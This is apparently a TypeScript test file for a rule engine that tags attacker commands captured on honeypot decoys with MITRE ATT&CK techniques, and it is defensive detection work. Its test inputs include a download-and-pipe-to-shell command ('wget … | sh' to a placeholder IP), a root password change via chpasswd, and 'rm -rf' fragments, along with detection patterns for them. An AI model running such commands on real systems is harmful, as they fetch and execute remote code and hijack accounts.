import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { recordingLog } from '../../test/support/recording-log.js'
import { commandEvent, fieldsOf, rulesetOf, testContext, testEvent } from '../../test/support/tagging.js'
import { sourceKind } from '../events/source-kinds.js'
import type { TaggerEvent } from '../events/tagger-event.js'
import { type CompiledRule, withState } from '../rules/compiled-rule.js'
import { Condition } from '../rules/condition.js'
import { DEFAULT_RULE_STATE, type RuleState } from '../rules/rule-state.js'
import { Ruleset } from '../rules/ruleset.js'
import { computeTagUuid } from '../tagging/tag-id.js'
import { RuleEngine } from './rule-engine.js'

const WGET = { id: 'W', match: '{ segment: { field: name, equals: wget } }' }
const SHELL = {
  id: 'S',
  match: '{ field: command_text, pattern: "\\\\|\\\\s*sh\\\\b" }',
  emits: '{ tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.8 }',
}

function tagsOf(ruleset: Ruleset, event: TaggerEvent, engine = new RuleEngine()) {
  return engine.tag(event, testContext(event, ruleset))
}

function withStates(ruleset: Ruleset, state: Partial<RuleState>): Ruleset {
  const rules = [...ruleset.rules.values()].map((rule) => withState(rule, { ...DEFAULT_RULE_STATE, ...state }))
  return new Ruleset(rules, ruleset.attackRelease)
}

describe('RuleEngine', () => {
  it('makes a tag for every technique of every rule that holds, rules in id order', () => {
    const tags = tagsOf(rulesetOf(WGET, SHELL), commandEvent('wget -qO- http://203.0.113.9/a | sh'))
    expect(tags.map((tag) => [tag.ruleId, tag.subTechniqueId ?? tag.techniqueId, tag.confidence])).toEqual([
      ['S', 'T1059.004', 0.8],
      ['W', 'T1105', 0.9],
    ])
  })

  it('gives tags the id of their statement, the anchors of the event and the bundled release', () => {
    const event = commandEvent('wget x')
    const [tag] = tagsOf(rulesetOf(WGET), event)
    expect(tag).toMatchObject({
      uuid: computeTagUuid({
        sourceKind: 'command',
        sourceId: event.sourceId,
        ruleId: 'W',
        ruleVersion: 1,
        techniqueId: 'T1105',
        subTechniqueId: null,
      }),
      attackerUuid: event.attackerUuid,
      sessionId: event.sessionId,
      deckyId: event.deckyId,
      basis: 'observed',
      attackRelease: 'enterprise-19.1',
      observedAt: event.observedAt,
    })
  })

  it('answers the same for a command seen before, with the ids of the new event', () => {
    const engine = new RuleEngine()
    const ruleset = rulesetOf(WGET)
    const first = tagsOf(ruleset, commandEvent('wget x'), engine)
    const second = tagsOf(ruleset, testEvent({ payload: { command_text: 'wget x' }, sessionId: 'other' }), engine)
    expect(second.map((tag) => tag.evidence)).toEqual(first.map((tag) => tag.evidence))
    expect(second[0]!.uuid).not.toBe(first[0]!.uuid)
  })

  it('does not take two commands for one where rules look at more than the text', () => {
    const engine = new RuleEngine()
    const ruleset = rulesetOf({
      match: '{ all: [{ field: command_text, contains: wget }, { field: service, equals: telnet }] }',
    })
    const command = (service: string) => testEvent({ payload: { command_text: 'wget x', service } })
    expect(tagsOf(ruleset, command('ssh'), engine)).toEqual([])
    expect(tagsOf(ruleset, command('telnet'), engine)).toHaveLength(1)
  })

  it('judges by the ruleset of the context, whichever came before', () => {
    const engine = new RuleEngine()
    const event = commandEvent('wget x')
    expect(tagsOf(rulesetOf(WGET), event, engine)).toHaveLength(1)
    expect(tagsOf(rulesetOf(SHELL), event, engine)).toEqual([])
  })

  it('says nothing for a disabled rule, and no more than the ceiling for a clipped one', () => {
    const ruleset = rulesetOf(WGET)
    const event = commandEvent('wget x')
    expect(tagsOf(withStates(ruleset, { state: 'disabled' }), event)).toEqual([])
    const clipped = tagsOf(withStates(ruleset, { state: 'clipped', confidenceMax: 0.5 }), event)
    expect(clipped.map((tag) => tag.confidence)).toEqual([0.5])
    expect(tagsOf(withStates(ruleset, { state: 'clipped', confidenceMax: 0.2 }), event)).toEqual([])
  })

  it.each([
    ['absent', {}],
    ['a number', { command_text: 7 }],
    ['null', { command_text: null }],
    ['a list', { command_text: ['wget x'] }],
  ])('finds nothing where the command text is %s', (_, payload) => {
    expect(tagsOf(rulesetOf(WGET, SHELL), testEvent({ payload }))).toEqual([])
  })

  it('fires rules that need no text', () => {
    const ruleset = rulesetOf({ appliesTo: 'payload', match: '{ not: { field: url, exists: true } }' })
    expect(tagsOf(ruleset, testEvent({ sourceKind: 'payload', payload: {} }))).toHaveLength(1)
    expect(tagsOf(ruleset, testEvent({ sourceKind: 'payload', payload: { url: 'x' } }))).toEqual([])
  })

  it('keeps secrets out of the evidence of a command', () => {
    const ruleset = rulesetOf({ match: '{ field: command_text, contains: chpasswd }' })
    const [tag] = tagsOf(ruleset, commandEvent('echo root:Sommer2026 | chpasswd'))
    expect(JSON.stringify(tag)).not.toContain('Sommer2026')
    expect(tag!.evidence.excerpt).toContain('chpasswd')
  })

  it('bounds the excerpt of a long command', () => {
    const [tag] = tagsOf(rulesetOf(WGET), commandEvent(`echo ${'x'.repeat(5000)}; wget http://203.0.113.9/x`))
    expect((tag!.evidence.excerpt as string).length).toBeLessThan(600)
    expect(tag!.evidence.excerpt).toContain('wget')
  })
})

describe('an event that cannot be looked at', () => {
  it('does not keep rules from later events', () => {
    const ruleset = rulesetOf({
      appliesTo: 'payload',
      match: '{ any: [{ field: url, contains: wget }, { field: type, contains: elf }] }',
    })
    const engine = new RuleEngine()
    const good = testEvent({ sourceKind: 'payload', payload: { url: 'x/wget', type: 'elf' } })
    const payload = {
      url: 'y/wget',
      get type(): string {
        throw new Error('gone')
      },
    }
    const bad = { ...good, payload }
    expect(tagsOf(ruleset, good, engine)).toHaveLength(1)
    expect(() => tagsOf(ruleset, bad, engine)).toThrow('gone')
    expect(tagsOf(ruleset, { ...good, payload: { url: 'z/wget' } }, engine)).toHaveLength(1)
  })

  it('is not taken for another one that JSON writes alike', () => {
    const ruleset = rulesetOf({ appliesTo: 'session', match: '{ field: duration_seconds, gt: 100 }' })
    const engine = new RuleEngine()
    const session = (duration: number | null) =>
      testEvent({ sourceKind: 'session', payload: { duration_seconds: duration } })
    expect(tagsOf(ruleset, session(Number.POSITIVE_INFINITY), engine)).toHaveLength(1)
    expect(tagsOf(ruleset, session(null), engine)).toEqual([])
  })
})

describe('a rule that throws', () => {
  it("loses no other rule's tags, and is told once", () => {
    const ruleset = rulesetOf(SHELL, WGET)
    const broken = [...ruleset.rules.values()].map((rule) =>
      rule.ruleId === 'S'
        ? { ...rule, match: { kind: 'condition' as const, condition: throwingCondition(rule) } }
        : rule,
    )
    const log = recordingLog()
    const engine = new RuleEngine(log)
    const withBroken = new Ruleset(broken, ruleset.attackRelease)
    for (let round = 0; round < 3; round++) {
      const event = commandEvent(`wget http://203.0.113.9/${round} | sh`)
      expect(tagsOf(withBroken, event, engine).map((tag) => tag.ruleId)).toEqual(['W'])
    }
    expect(log.lines.map((line) => [line.level, line.fields.rule_id])).toEqual([['error', 'S']])
  })

  function throwingCondition({ match }: CompiledRule): Condition {
    if (match.kind !== 'condition') throw new Error('expected a condition')
    const condition = new Condition(match.condition.tree)
    condition.holds = () => {
      throw new Error('out of memory')
    }
    return condition
  }
})

const leaves = [
  '{ field: command_text, contains: wget }',
  "{ field: command_text, pattern: '^\\s*(?:cd|rm)\\b' }",
  '{ field: command_text, ends_with: sh }',
  '{ field: decoded, contains: a }',
  '{ field: obfuscation, one_of: [quote_splitting, encoded_payload] }',
  '{ segment: { field: name, one_of: [rm, wget] } }',
  '{ segment: { all: [{ field: name, equals: echo }, { not: { field: arguments, contains: a } }] } }',
  '{ not: { field: command_text, contains: cd } }',
  '{ field: service, exists: true }',
] as const

const tree: fc.Arbitrary<string> = fc.letrec<{ node: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(...leaves),
    fc.array(tie('node'), { minLength: 1, maxLength: 3 }).map((parts) => `{ all: [${parts.join(', ')}] }`),
    fc.array(tie('node'), { minLength: 1, maxLength: 3 }).map((parts) => `{ any: [${parts.join(', ')}] }`),
    tie('node').map((part) => `{ not: ${part} }`),
  ),
})).node

const words = fc.constantFrom(
  'wget',
  'http://x/a',
  'cd',
  '/tmp',
  ';',
  '&&',
  '|',
  'sh',
  'rm',
  '-rf',
  'echo',
  "w''get",
  'a',
  '\n',
  '$(',
  ')',
  '"',
  'YWJj',
  '| base64 -d',
)
const commands = fc.array(words, { maxLength: 10 }).map((parts) => parts.join(' '))

describe('the index', () => {
  it('never changes what a condition answers', () => {
    fc.assert(
      fc.property(
        fc.array(tree, { minLength: 1, maxLength: 6 }),
        fc.array(commands, { minLength: 1, maxLength: 5 }),
        (trees, texts) => {
          const ruleset = rulesetOf(...trees.map((match, number) => ({ id: `P${number}`, match })))
          const engine = new RuleEngine()
          for (const text of texts) {
            const event = commandEvent(text)
            const alone = [...ruleset.rules.values()].filter(
              ({ match }) => match.kind === 'condition' && match.condition.holds(fieldsOf(event)),
            )
            expect(tagsOf(ruleset, event, engine).map((tag) => tag.ruleId)).toEqual(alone.map((rule) => rule.ruleId))
          }
        },
      ),
      { numRuns: 150 },
    )
  })
})

describe('evidence', () => {
  const anyText = fc.oneof(fc.string({ maxLength: 300 }), commands, fc.string({ unit: 'binary', maxLength: 100 }))
  const payloads: Readonly<Record<string, fc.Arbitrary<Record<string, unknown>>>> = {
    command: fc.record({ command_text: anyText }),
    http_request: fc.record(
      {
        method: anyText,
        path: anyText,
        query: anyText,
        body: anyText,
        user_agent: anyText,
        headers: fc.dictionary(anyText, anyText, { maxKeys: 5 }),
      },
      { requiredKeys: [] },
    ),
    payload: fc.record({ url: anyText, sha256: anyText, size: fc.double(), type: anyText }, { requiredKeys: [] }),
    service_op: fc.record({ service: anyText, operation: anyText, argument: anyText }, { requiredKeys: [] }),
    auth_attempt: fc.record({ username: anyText, password: anyText }),
    fingerprint: fc.record({ metric: anyText, value: anyText }),
    session: fc.record({ phase: anyText }),
    email: fc.record({ raw: anyText }),
    intel: fc.record({ provider: anyText }),
  }

  it.each(Object.keys(payloads))('of %s always fits its schema', (kind) => {
    const match = '{ not: { field: FIELD, equals: never } }'.replace(
      'FIELD',
      Object.keys(sourceKind(kind)!.payload.shape)[0]!,
    )
    const ruleset = rulesetOf({ appliesTo: kind, match: match.replace('headers', 'headers.*') })
    const engine = new RuleEngine()
    fc.assert(
      fc.property(payloads[kind]!, (payload) => {
        const tags = tagsOf(ruleset, testEvent({ sourceKind: kind, payload }), engine)
        for (const tag of tags) expect(sourceKind(kind)!.evidence.safeParse(tag.evidence).error).toBeUndefined()
      }),
    )
  })
})
